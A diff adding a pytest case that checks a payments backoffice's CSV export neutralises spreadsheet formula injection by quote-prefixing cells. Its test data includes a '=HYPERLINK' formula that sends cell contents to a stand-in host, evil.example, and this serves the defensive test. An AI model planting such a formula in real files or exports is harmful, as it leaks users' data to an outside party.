@@ -4,6 +4,9 @@ a readable error page with the right status, never a 500 and never a change."""
 
 from __future__ import annotations
 
+import csv
+import io
+
 import aiohttp
 import asyncpg
 import pytest
@@ -165,6 +168,42 @@ async def test_malformed_forms(web: TestClient, pool: asyncpg.Pool, settings: Se
     form.add_field("upload", b"data", filename="x.txt")
     _page(await web.post("/backoffice/keys", data=form), 400)
     _page(await web.post("/backoffice/keys", data={"csrf": csrf, "name": "x" * 200_000}), 413)
+
+
+async def test_the_csv_export_disarms_formulas_a_merchant_or_customer_wrote(
+    web: TestClient, pool: asyncpg.Pool, settings: Settings
+) -> None:
+    await _admin(web, pool)
+    key = (await Repository(pool).merchants.issue_key(A, "test", settings.api_key_secret)).key
+    name = '=HYPERLINK("http://evil.example/?leak="&A1,"Refund here")'
+    async with aiohttp.ClientSession() as http:
+        for order, customer, order_name, amount in (
+            ("-ORD-1", "@cust", name, 5000),
+            ("ORD-2", "+82 10 1234 5678", "Blue mug; =1+1", 120),
+        ):
+            async with http.post(
+                str(web.make_url("/api/payments")),
+                json={
+                    "userPublicId": customer,
+                    "orderId": order,
+                    "orderName": order_name,
+                    "amount": amount,
+                    "echo": {"mid": A},
+                },
+                headers={"Authorization": f"Bearer {key}"},
+            ) as resp:
+                assert resp.status == 202, await resp.text()
+    resp = await web.get("/backoffice/payments.csv")
+    assert resp.status == 200 and resp.content_type == "text/csv"
+    text = await resp.text()
+    rows = list(csv.DictReader(io.StringIO(text, newline="")))
+    assert [(r["order_id"], r["customer_id"], r["order_name"], r["amount"]) for r in rows] == [
+        ("ORD-2", "'+82 10 1234 5678", "Blue mug; =1+1", "120"),
+        ("'-ORD-1", "'@cust", "'" + name, "5000"),
+    ]
+    # Amounts bare, every other cell quoted (a ; inside a name starts no cell anywhere).
+    assert text.splitlines()[1].split(",")[6] == "120"
+    assert '"Blue mug; =1+1"' in text
 
 
 async def test_unknown_and_other_merchants_and_other_modes_ids(
